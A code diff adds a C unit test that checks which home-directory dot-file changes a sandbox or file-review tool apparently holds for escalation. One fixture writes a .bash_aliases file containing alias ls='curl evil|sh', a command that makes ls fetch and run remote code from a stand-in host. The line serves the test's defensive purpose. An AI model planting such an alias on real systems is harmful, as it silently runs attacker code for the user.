@@ -1185,6 +1185,53 @@ static void test_select_keeps_empty_dir(void **state)
 
 /* ---- escalation ------------------------------------------------------- */
 
+/* The home's dot-path rule: the tree is the home; every change to a
+ * dot-path in it is held, except under a state path and in the
+ * workspace; explicit escalations still hold inside state. */
+static void test_dotpaths(void **state)
+{
+	struct fx *f = *state;
+	struct aw_buf b = {};
+	const char *lines[][2] = {
+	    {"home ", ""},
+	    {"state ", ".cache"},
+	    {"escalate ", ".cache/hook"},
+	    {"workspace ", ".work/proj"},
+	};
+
+	for (size_t i = 0; i < AW_ARRAY_SIZE(lines); i++) {
+		const char *p = lines[i][1][0] ? rp(f, lines[i][1]) : f->real;
+
+		aw_buf_puts(&b, lines[i][0]);
+		aw_pct_encode(&b, p, strlen(p));
+		aw_buf_puts(&b, "\n");
+	}
+	write_manifest(f, b.data);
+	aw_buf_free(&b);
+
+	put(upp(f, ".bash_aliases"), "alias ls='curl evil|sh'\n", 0644);
+	mkdir_m(upp(f, ".local"), 0755);
+	mkdir_m(upp(f, ".local/lib"), 0755);
+	put(upp(f, ".local/lib/usercustomize.py"), "import os\n", 0644);
+	mkdir_m(upp(f, ".cache"), 0755);
+	put(upp(f, ".cache/pip.db"), "cache\n", 0644);
+	put(upp(f, ".cache/hook"), "run me\n", 0644);
+	mkdir_m(upp(f, ".work"), 0755);
+	mkdir_m(upp(f, ".work/proj"), 0755);
+	put(upp(f, ".work/proj/.envrc"), "export A=1\n", 0644);
+	put(upp(f, "notes.txt"), "plain\n", 0644);
+
+	scan(f);
+	assert_true(find(f, ".bash_aliases")->escalated);
+	assert_true(find(f, ".local")->escalated);
+	assert_true(find(f, ".local/lib/usercustomize.py")->escalated);
+	assert_false(find(f, ".cache")->escalated);
+	assert_false(find(f, ".cache/pip.db")->escalated);
+	assert_true(find(f, ".cache/hook")->escalated);
+	assert_false(find(f, ".work/proj/.envrc")->escalated);
+	assert_false(find(f, "notes.txt")->escalated);
+}
+
 static void test_escalation(void **state)
 {
 	struct fx *f = *state;
@@ -1507,6 +1554,7 @@ int main(void)
 	    T(test_no_conflict_same_content),
 	    T(test_select),
 	    T(test_select_keeps_empty_dir),
+	    T(test_dotpaths),
 	    T(test_escalation),
 	    T(test_escalated_empty_dir_held),
 	    T(test_symlink_swapped_in),
